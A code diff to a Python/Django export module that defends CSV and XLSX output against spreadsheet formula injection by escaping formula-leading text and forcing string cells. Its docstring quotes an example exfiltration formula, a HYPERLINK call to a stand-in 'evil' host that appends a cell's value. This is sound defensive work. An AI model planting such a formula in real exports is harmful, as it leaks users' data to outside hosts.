@@ -1,39 +1,102 @@
-"""Every spreadsheet cell the app produces is written here, as CSV or XLSX."""
+"""Every spreadsheet cell the app produces is written here, as CSV or XLSX.
+
+Text in an export is often typed by a city's users, and a spreadsheet program runs a cell that
+starts with "=" (and, in CSV, "+", "-" or "@") as a formula: `=HYPERLINK("http://evil/?"&A1)`
+in an evidence note would send a partner's data elsewhere when they open the file. So text is
+always written as text: an XLSX string cell, a CSV field with an apostrophe in front (OWASP's
+advice on CSV injection). Numbers and dates keep their types so they still sort and sum.
+"""
 
 import csv
+import datetime
 import io
+from decimal import Decimal
 
+from django.utils import timezone
 from openpyxl import Workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from openpyxl.styles import Alignment, Font
 from openpyxl.utils import get_column_letter
 
 WIDE_COLUMNS = ("Action", "Evidence note", "Subdimension", "Evidence links")
+# A spreadsheet program reads a CSV field starting with one of these as a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# Excel keeps at most this many characters in a cell and "repairs" a file with longer ones.
+XLSX_CELL_LIMIT = 32_767
+CUT_MARK = " … (continued in the app)"
+DATE_FORMAT = "yyyy-mm-dd"
+DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
+NUMBERS = (int, float, Decimal)
+
+
+def _xlsx_text(value) -> str:
+    # Control characters are not allowed in XLSX XML: openpyxl would refuse the whole file.
+    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
+    if len(text) > XLSX_CELL_LIMIT:
+        text = text[: XLSX_CELL_LIMIT - len(CUT_MARK)] + CUT_MARK
+    return text
+
+
+def _write_cell(cell, value) -> None:
+    if value is None or value == "":
+        return
+    if isinstance(value, datetime.datetime):
+        # XLSX has no time zones: write the wall-clock time of the site's zone.
+        if value.tzinfo is not None:
+            value = timezone.localtime(value).replace(tzinfo=None)
+        cell.value = value
+        cell.number_format = DATETIME_FORMAT
+    elif isinstance(value, datetime.date):
+        cell.value = value
+        cell.number_format = DATE_FORMAT
+    elif isinstance(value, NUMBERS):  # bool is an int, and stays a boolean cell
+        cell.value = value
+    else:
+        cell.value = _xlsx_text(value)
+        # openpyxl makes any str starting with "=" a formula; this keeps it a string.
+        cell.data_type = "s"
 
 
 def to_xlsx(title: str, columns: list[str], rows: list[list]) -> bytes:
     book = Workbook()
     sheet = book.active
     sheet.title = title[:31]
-    sheet.append(columns)
-    for cell in sheet[1]:
-        cell.font = Font(bold=True)
-    for row in rows:
-        sheet.append(row)
+    wrap = Alignment(wrap_text=True, vertical="top")
+    bold = Font(bold=True)
+    for c, name in enumerate(columns, start=1):
+        cell = sheet.cell(row=1, column=c)
+        _write_cell(cell, name)
+        cell.font = bold
+    for r, row in enumerate(rows, start=2):
+        for c, value in enumerate(row, start=1):
+            cell = sheet.cell(row=r, column=c)
+            _write_cell(cell, value)
+            cell.alignment = wrap
     sheet.freeze_panes = "A2"
     sheet.auto_filter.ref = sheet.dimensions
     for i, name in enumerate(columns, start=1):
         sheet.column_dimensions[get_column_letter(i)].width = 50 if name in WIDE_COLUMNS else 16
-    for row in sheet.iter_rows(min_row=2):
-        for cell in row:
-            cell.alignment = Alignment(wrap_text=True, vertical="top")
     out = io.BytesIO()
     book.save(out)
     return out.getvalue()
 
 
+def _csv_field(value):
+    if value is None:
+        return ""
+    if isinstance(value, NUMBERS):  # a negative number is a number, not a formula
+        return value
+    if isinstance(value, datetime.datetime):
+        return value.isoformat(sep=" ", timespec="minutes")
+    if isinstance(value, datetime.date):
+        return value.isoformat()
+    text = str(value)
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
 def to_csv(columns: list[str], rows: list[list]) -> str:
     out = io.StringIO()
     writer = csv.writer(out)
-    writer.writerow(columns)
-    writer.writerows(rows)
+    writer.writerow([_csv_field(v) for v in columns])
+    writer.writerows([_csv_field(v) for v in row] for row in rows)
     return out.getvalue()
